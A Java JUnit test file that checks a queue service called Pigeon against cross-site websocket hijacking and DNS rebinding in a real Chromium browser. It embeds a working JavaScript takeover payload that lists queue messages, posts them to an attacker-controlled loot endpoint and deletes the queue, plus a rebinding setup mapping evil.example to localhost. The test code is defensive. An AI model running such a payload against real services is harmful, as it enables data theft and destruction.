package io.pigeon.security;

import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import io.pigeon.api.console.Chromium;
import io.pigeon.testing.Api;
import io.pigeon.testing.Eventually;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.chrome.ChromeDriver;

/**
 * The attacks of issue 39 item 2, run as they were: in Chromium, against Pigeon in auth mode {@code none} on
 * {@code localhost} (as {@code ./mvnw -Plocal} runs it), by a page the user merely visits.
 *
 * <ul>
 *   <li>A page from another origin (a server of the test's on {@code 127.0.0.1}, another port) opens a websocket to
 *       Pigeon, lists the project's queues, reads a queue's messages, sends them to its own server and deletes the
 *       queue. It must fail at the upgrade: no socket, nothing sent home, the queue intact.
 *   <li>DNS rebinding: a page of {@code evil.example}, whose name then resolves to Pigeon's address (the browser's
 *       resolver is told so), reads and deletes through same-origin requests and a socket. It must get nothing.
 * </ul>
 *
 * Each is checked to work where it should, so that neither passes because the script itself is broken: the same script
 * run in a page of Pigeon's own origin does take the queue over.
 */
@QuarkusTest
class CrossSiteBrowserTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration WAIT = Duration.ofSeconds(20);

    /**
     * The attacking script: opens a socket to {@code pigeon}, lists the queues of {@code project}, lists the messages of
     * {@code queue} and posts them to {@code loot}, then deletes the queue; what happened is kept in
     * {@code window.outcome}.
     */
    private static final String TAKEOVER =
            """
            window.takeover = function (pigeon, project, queue, loot) {
              var outcome = {opened: false, frames: [], error: null, closed: null, done: false};
              window.outcome = outcome;
              var headers = {"Client-ID": "%s", "X-Project-ID": project};
              var steps = [
                {action: "queue_list", headers: headers, body: {}},
                {action: "message_list", headers: headers, body: {queue_name: queue, echo: true}},
                {action: "queue_delete", headers: headers, body: {queue_name: queue}}
              ];
              var socket;
              try {
                socket = new WebSocket(pigeon);
              } catch (e) {
                outcome.error = String(e);
                outcome.done = true;
                return;
              }
              socket.onopen = function () {
                outcome.opened = true;
                socket.send(JSON.stringify(steps.shift()));
              };
              socket.onmessage = function (event) {
                outcome.frames.push(JSON.parse(event.data));
                if (outcome.frames.length === 2) {
                  fetch(loot, {method: "POST", mode: "no-cors", body: event.data});
                }
                if (steps.length > 0) {
                  socket.send(JSON.stringify(steps.shift()));
                } else {
                  socket.close();
                }
              };
              socket.onerror = function () { outcome.error = "error event"; };
              socket.onclose = function (event) { outcome.closed = event.code; outcome.done = true; };
            };
            """
                    .formatted(Api.CLIENT_ID);

    /**
     * Same-origin requests as a rebound page makes them: list the queues of {@code project}, then delete {@code queue};
     * the statuses and the list's text are handed back.
     */
    private static final String SAME_ORIGIN_CALLS =
            """
            var project = arguments[0], queue = arguments[1], done = arguments[arguments.length - 1];
            var headers = {"X-Project-Id": project, "Client-ID": "%s"};
            var result = {};
            fetch("/v2/queues", {headers: headers})
              .then(function (r) { return r.text().then(function (t) { result.list = r.status; result.body = t; }); })
              .then(function () { return fetch("/v2/queues/" + queue, {method: "DELETE", headers: headers}); })
              .then(function (r) { result.deleted = r.status; })
              .catch(function (e) { result.error = String(e); })
              .then(function () { done(JSON.stringify(result)); });
            """
                    .formatted(Api.CLIENT_ID);

    private static Chromium chromium;
    private static ChromeDriver browser;

    /** The attacker's own server: serves its page on another origin, and keeps what is sent to it. */
    private HttpServer attacker;

    private final Queue<String> loot = new ConcurrentLinkedQueue<>();
    private final String project = Api.newProject();
    private final String queue = "payroll";

    @BeforeAll
    static void startTheBrowser() throws IOException {
        chromium = Chromium.start(
                "the cross-site browser tests",
                // The rebinding: evil.example now resolves to the address Pigeon listens on.
                "--host-resolver-rules=MAP evil.example 127.0.0.1",
                // Navigations to http:// are not tried over https first (Chromium's HTTPS upgrades).
                "--disable-features=HttpsUpgrades");
        browser = chromium.driver;
        browser.manage().timeouts().scriptTimeout(WAIT);
    }

    @AfterAll
    static void stopTheBrowser() throws IOException {
        if (chromium != null) {
            chromium.close();
        }
    }

    @BeforeEach
    void startTheAttackersServer() throws IOException {
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
        attacker.createContext("/cats.html", exchange -> {
            String page = "<!doctype html><html><head><title>Cute cats</title></head><body><p>Cats.</p><script>"
                    + TAKEOVER + "takeover(" + JSON.writeValueAsString(socketUrl("localhost")) + ", "
                    + JSON.writeValueAsString(project) + ", " + JSON.writeValueAsString(queue) + ", "
                    + JSON.writeValueAsString(lootUrl()) + ");</script></body></html>";
            byte[] bytes = page.getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
            exchange.sendResponseHeaders(200, bytes.length);
            exchange.getResponseBody().write(bytes);
            exchange.close();
        });
        attacker.createContext("/loot", exchange -> {
            loot.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        attacker.start();
        Api.as(project)
                .contentType(ContentType.JSON)
                .body("{\"messages\": [{\"ttl\": 3600, \"body\": {\"salary\": 123456}}]}")
                .post("/v2/queues/" + queue + "/messages")
                .then()
                .statusCode(201);
    }

    @AfterEach
    void stopTheAttackersServer() {
        attacker.stop(0);
    }

    /**
     * Opens a page of Pigeon's own origin (a document the browser shows, not the home document, whose
     * {@code application/json-home} it would download instead).
     */
    private static void openOwnPage() {
        String page = "http://localhost:" + RestAssured.port + "/q/health/live";
        browser.get(page);
        assertEquals(page, browser.getCurrentUrl());
    }

    private static String socketUrl(String host) {
        return "ws://" + host + ":" + RestAssured.port + "/";
    }

    private String lootUrl() {
        return "http://127.0.0.1:" + attacker.getAddress().getPort() + "/loot";
    }

    /** Waits for the takeover script of the current page to end, and returns what it saw. */
    private static JsonNode outcome() throws IOException {
        Eventually.await(
                "the page's script ends",
                WAIT,
                () -> Boolean.TRUE.equals(browser.executeScript("return !!(window.outcome && window.outcome.done);")));
        return JSON.readTree((String) browser.executeScript("return JSON.stringify(window.outcome);"));
    }

    private void assertTheQueueIsIntact() {
        Api.as(project)
                .get("/v2/queues/" + queue + "/messages?echo=true")
                .then()
                .statusCode(200)
                .body("messages.body.salary", hasItem(123456));
    }

    @Test
    void aPageFromAnotherOriginCannotTakeTheSocketOver() throws IOException {
        browser.get("http://127.0.0.1:" + attacker.getAddress().getPort() + "/cats.html");
        JsonNode attack = outcome();
        assertFalse(attack.get("opened").asBoolean(), "the socket opened: " + attack);
        assertEquals(0, attack.get("frames").size(), attack.toString());
        assertEquals(1006, attack.get("closed").asInt(), "the handshake failed: " + attack);
        assertTheQueueIsIntact();
        assertTrue(loot.isEmpty(), "the page sent home " + loot);

        // The same script in a page of Pigeon's own origin does all of it: the refusal above is the origin's.
        openOwnPage();
        browser.executeScript(
                TAKEOVER + "takeover(arguments[0], arguments[1], arguments[2], arguments[3]);",
                socketUrl("localhost"),
                project,
                queue,
                lootUrl());
        JsonNode own = outcome();
        assertTrue(own.get("opened").asBoolean(), own.toString());
        assertEquals(3, own.get("frames").size(), own.toString());
        assertEquals(200, own.at("/frames/0/headers/status").asInt(), own.toString());
        assertEquals(123456, own.at("/frames/1/body/messages/0/body/salary").asInt(), own.toString());
        assertEquals(204, own.at("/frames/2/headers/status").asInt(), own.toString());
        Eventually.await("the messages reach the page's server", WAIT, () -> !loot.isEmpty());
        assertTrue(loot.peek().contains("123456"), loot.toString());
        Api.as(project).get("/v1/queues/" + queue).then().statusCode(404); // v1 answers whether it exists
    }

    @Test
    void aReboundPageGetsNothing() throws IOException {
        String evil = "http://evil.example:" + RestAssured.port;
        browser.get(evil + "/q/health/live");
        assertTrue(browser.getPageSource().contains("Misdirected request"), browser.getPageSource());

        String calls = (String) browser.executeAsyncScript(SAME_ORIGIN_CALLS, project, queue);
        JsonNode rebound = JSON.readTree(calls);
        assertEquals(421, rebound.path("list").asInt(), calls);
        assertFalse(rebound.path("body").asText().contains(queue), calls);
        assertEquals(421, rebound.path("deleted").asInt(), calls);

        // Its socket is same-origin (Origin and Host both name evil.example): the host is what refuses it.
        browser.executeScript(
                TAKEOVER + "takeover(arguments[0], arguments[1], arguments[2], arguments[3]);",
                socketUrl("evil.example"),
                project,
                queue,
                lootUrl());
        JsonNode socket = outcome();
        assertFalse(socket.get("opened").asBoolean(), socket.toString());
        assertEquals(0, socket.get("frames").size(), socket.toString());
        assertTheQueueIsIntact();
        assertTrue(loot.isEmpty(), "the page sent home " + loot);

        // The same calls from a page of Pigeon's own name do list and delete: the refusals above are the host's.
        openOwnPage();
        JsonNode own = JSON.readTree((String) browser.executeAsyncScript(SAME_ORIGIN_CALLS, project, queue));
        assertEquals(200, own.path("list").asInt(), own.toString());
        assertTrue(own.path("body").asText().contains(queue), own.toString());
        assertEquals(204, own.path("deleted").asInt(), own.toString());
        Api.as(project).get("/v1/queues/" + queue).then().statusCode(404); // v1 answers whether it exists
    }
}
